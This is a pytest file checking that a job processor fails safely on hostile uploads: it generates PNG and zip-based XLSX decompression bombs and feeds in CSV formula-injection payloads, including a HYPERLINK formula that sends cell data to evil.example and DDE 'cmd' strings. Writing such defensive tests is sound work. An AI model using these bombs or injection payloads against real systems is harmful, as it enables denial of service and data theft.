"""Hostile files through a job's stages end to end, at production limits: submitted through the API, run by the
real Processor (in this process, so its memory is this process's), sources in the Storage emulator.

tests/jobtypes/ covers the pure readers and each stage (usually with limits lowered); what is added here is the
whole job at the real caps, with the time it took and the peak memory it needed measured and bounded.
"""

from __future__ import annotations

import csv
import io
import re
import resource
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest

from catalog import thumbnails as image_thumbnails
from oncetask.job import Job
from oncetask.processor import Outcome, TaskDelivery
from oncetask.states import JobState

from .conftest import Stack

MB = 1024 * 1024


@dataclass
class Measured:
    seconds: float = 0.0
    peak_growth: int = 0  # bytes of resident memory above where the run started, at its highest


def _status_kb(field: str) -> int:
    with open("/proc/self/status") as status:
        return int(re.search(rf"^{field}:\s+(\d+) kB", status.read(), re.M).group(1))  # type: ignore[union-attr]


@contextmanager
def measured() -> Iterator[Measured]:
    """Wall time and peak resident-memory growth of the block. Linux lets us reset the peak (VmHWM) first, so
    the figure is this block's own; elsewhere ru_maxrss's growth is a lower bound only."""
    result = Measured()
    try:
        with open("/proc/self/clear_refs", "w") as clear:
            clear.write("5")  # reset VmHWM to the current RSS
        start_kb, peak = _status_kb("VmRSS"), lambda: _status_kb("VmHWM")
    except OSError:
        start_kb, peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, (
            lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
    started = time.monotonic()
    yield result
    result.seconds = time.monotonic() - started
    result.peak_growth = max(0, peak() - start_kb) * 1024


def run_job(stack: Stack, job_type: str, source: bytes, name: str, **payload: Any) -> tuple[Job, Measured, Outcome]:
    """Upload `source`, submit the job through the API (queue paused), deliver its task to the Processor."""
    stack.services.bucket.blob(f"in/{name}").upload_from_string(source)
    job_id = stack.submit_ok(job_type, {"source": f"gs://{stack.settings.bucket}/in/{name}", **payload},
                             key=f"hostile-{name}")
    with measured() as cost:
        outcome = stack.services.processor.handle(TaskDelivery(job_id, 1))
    return stack.job(job_id), cost, outcome


@pytest.fixture
def paused(make_stack: Any) -> Stack:
    return make_stack(paused=True)


def png_bomb(width: int, height: int) -> bytes:
    """A real 1-bit PNG of `width`x`height` black pixels: its zlib stream inflates a thousandfold."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row * 1000) for _ in range(height // 1000)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def xlsx_bomb(inflated_bytes: int) -> bytes:
    """A zip that looks like a workbook and declares one member inflating to `inflated_bytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"\x00" * MB
            for _ in range(inflated_bytes // MB):
                member.write(block)
    return out.getvalue()


@pytest.mark.parametrize(("side", "words"), [
    (8_000, "8000x8000 = 64000000 pixels"),  # past our 40 Mpx cap, under Pillow's own guard
    (20_000, "decompression bomb"),  # 400 Mpx: Pillow's guard speaks first
])
def test_png_decompression_bomb_fails_the_job_permanently_without_decoding_it(
        paused: Stack, side: int, words: str) -> None:
    bomb = png_bomb(side, side)  # 400 Mpx would be 400 MB as greyscale, sent in ~50 kB
    assert len(bomb) < 200_000
    job, cost, outcome = run_job(paused, "image.thumbnails", bomb, f"bomb-{side}.png")
    assert outcome.outcome == "failed" and job.state is JobState.FAILED and job.attempts == 1
    error = job.errors[-1]
    assert (error["code"], error["stage"], error["retryable"]) == ("IMAGE_TOO_LARGE", "probe", False)
    assert words in error["message"], error
    assert cost.seconds < 5 and cost.peak_growth < 32 * MB, cost


def test_image_source_over_the_byte_cap_fails_without_being_downloaded(paused: Stack) -> None:
    big = b"\x89PNG\r\n\x1a\n" + b"\x00" * image_thumbnails.MAX_SOURCE_BYTES  # one cap and 8 bytes
    job, cost, outcome = run_job(paused, "image.thumbnails", big, "huge.png")
    assert outcome.outcome == "failed" and job.state is JobState.FAILED
    error = job.errors[-1]
    assert (error["stage"], error["retryable"]) == ("probe", False) and "bytes" in error["message"], error
    assert cost.seconds < 5 and cost.peak_growth < image_thumbnails.MAX_SOURCE_BYTES // 2, cost


def test_xlsx_zip_bomb_fails_before_inflating(paused: Stack) -> None:
    bomb = xlsx_bomb(130 * MB)  # past the 128 MB cap on what a workbook may inflate to
    assert len(bomb) < 1 * MB
    job, cost, outcome = run_job(paused, "sheet.import", bomb, "bomb.xlsx")
    assert outcome.outcome == "failed" and job.state is JobState.FAILED
    error = job.errors[-1]
    assert (error["code"], error["stage"], error["retryable"]) == ("SHEET_TOO_LARGE", "parse", False), error
    assert cost.seconds < 5 and cost.peak_growth < 32 * MB, cost


@pytest.mark.parametrize(("encoded", "code", "words"), [
    ("sku,name,quantity,price\nA-1,Lamp,1,2\n".encode("utf-16-le"), "NOT_A_SHEET", "binary"),
    ("sku,name,quantity,price\nA-1,Lamp,1,2\n".encode("utf-32"), "NOT_A_SHEET", "binary"),
    (b"sku,name,quantity,price\n\x81\x8d\x8f\x90\x9d,x,1,2\n", "UNKNOWN_ENCODING", "neither UTF-8 nor"),
], ids=["utf-16 without BOM", "utf-32", "bytes undefined in Windows-1252"])
def test_sheet_in_a_wrong_encoding_fails_permanently_naming_the_problem(
        paused: Stack, encoded: bytes, code: str, words: str) -> None:
    job, cost, outcome = run_job(paused, "sheet.import", encoded, f"enc-{code}-{len(encoded)}.csv")
    assert outcome.outcome == "failed" and job.state is JobState.FAILED and job.attempts == 1
    error = job.errors[-1]
    assert (error["code"], error["stage"], error["retryable"]) == (code, "parse", False), error
    assert words in error["message"]
    assert cost.seconds < 5


def test_formula_injection_and_a_million_empty_rows_import_the_data_as_text_quickly(paused: Stack) -> None:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerows([
        ["sku", "name", "quantity", "price"],
        ["F-1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "1", "2.50"],
        ["F-2", "+cmd|' /C calc'!A0", "2", "3"],
        ["F-3", "@SUM(1+1)*cmd|' /C calc'!A0", "3", "4"],
        ["=1+1", "-2+3", "x", "5"],  # an invalid row whose offending values are formulas too
    ])
    data = out.getvalue().encode() + b",,,\r\n" * 1_000_000 + b"LATE,after the blank rows,1,1\r\n"
    job, cost, outcome = run_job(paused, "sheet.import", data, "formulas.csv", collection="hostile_products")
    assert outcome.outcome == "completed" and job.state is JobState.COMPLETED, job.errors
    products = {d.id: d.to_dict() for d in paused.services.firestore.collection("hostile_products").stream()}
    assert sorted(products) == ["F-1", "F-2", "F-3"]  # LATE lies past the empty run: not data
    assert products["F-1"]["name"].startswith("=HYPERLINK(")  # stored as the text it was, never evaluated
    parse = job.checkpoints["parse"]["output"]
    assert parse["invalid_rows"] == 1 and parse["stopped_at_empty_run"] is not None
    errors_csv = paused.services.bucket.blob(parse["errors_csv"].split("/", 3)[3]).download_as_text()
    assert "=1+1" not in errors_csv.replace("'=1+1", "")  # a spreadsheet opening it sees text, not a formula
    assert cost.seconds < 10 and cost.peak_growth < 64 * MB, cost  # measured: 0.1 s, 20 MB (the 5 MB file, decoded)
